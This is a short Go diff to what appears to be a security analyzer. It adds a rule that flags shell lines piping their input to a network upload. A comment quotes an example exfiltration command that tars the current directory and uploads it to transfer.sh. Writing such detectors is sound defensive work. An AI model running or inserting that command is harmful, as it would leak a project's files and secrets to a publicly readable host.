@@ -660,6 +660,10 @@ func (a *analyzer) uploadSinks(i int, in flowVal) {
 			*c = withFinding(*c, findUpload, "publishes "+strings.Join(m.uploads, " "))
 		case len(m.uploads) > 0 && sendsToCapture(c):
 			*c = withFinding(*c, findUpload, "uploads "+strings.Join(m.uploads, " ")+" to "+netHosts(c))
+		case m.netSink && sendsToCapture(c):
+			// tar czf - . | curl -T - https://transfer.sh/x: whatever the line pipes in
+			// goes to a drop anyone with the link can read.
+			*c = withFinding(*c, findUpload, "uploads what it reads on its input to "+netHosts(c))
 		}
 	}
 	if !m.netArgs {
